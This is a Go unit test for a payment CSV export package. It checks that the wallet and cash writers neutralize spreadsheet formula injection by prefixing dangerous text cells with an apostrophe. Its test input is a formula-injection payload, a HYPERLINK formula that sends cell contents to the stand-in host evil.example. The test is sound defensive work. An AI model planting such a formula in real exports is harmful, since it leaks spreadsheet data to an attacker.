package walletcsv

import (
	"bytes"
	"strings"
	"testing"
)

// TestFormulaInjectionNeutralized writes text starting with each formula
// sign through the wallet and cash writers: every text cell comes out with
// a leading apostrophe (a tab or carriage return is cleaned away first),
// and the amount stays a number a provider's software reads.
func TestFormulaInjectionNeutralized(t *testing.T) {
	for _, lead := range []string{"=", "+", "-", "@", "\t=", "\r="} {
		hostile := lead + `HYPERLINK("http://evil.example/?"&A1,"x")`
		safe := func(cell string) bool {
			return strings.HasPrefix(cell, "'") || !strings.ContainsAny(cell[:1], "=+-@\t\r")
		}
		var wb bytes.Buffer
		w, err := NewWalletWriter(&wb, "JOD")
		if err != nil {
			t.Fatal(err)
		}
		if err := w.Write(WalletPayment{EndToEndID: "TDM-1", Amount: 45000, Provider: hostile, MSISDN: "+962791234567", RecipientName: hostile, Reference: hostile}); err != nil {
			t.Fatal(err)
		}
		w.Close()
		var cb bytes.Buffer
		c, err := NewCashWriter(&cb, "JOD")
		if err != nil {
			t.Fatal(err)
		}
		if err := c.Write(CashPayment{EndToEndID: "TDM-2", Amount: 5000, Agent: hostile, VoucherCode: "V-1", RecipientName: hostile, RecipientNationalID: hostile[:1] + "123", Reference: hostile}); err != nil {
			t.Fatal(err)
		}
		c.Close()
		for name, file := range map[string]struct {
			rec  []string
			text []int
			amt  string
		}{
			"wallet": {readAll(t, wb.String())[1], []int{3, 5, 6}, "45.000"},
			"cash":   {readAll(t, cb.String())[1], []int{3, 5, 6, 7}, "5.000"},
		} {
			for _, i := range file.text {
				if !safe(file.rec[i]) {
					t.Errorf("%s %q: column %d is %q, want it neutralized", name, lead, i, file.rec[i])
				}
			}
			if file.rec[1] != file.amt {
				t.Errorf("%s: amount %q, want %q untouched", name, file.rec[1], file.amt)
			}
		}
	}
}
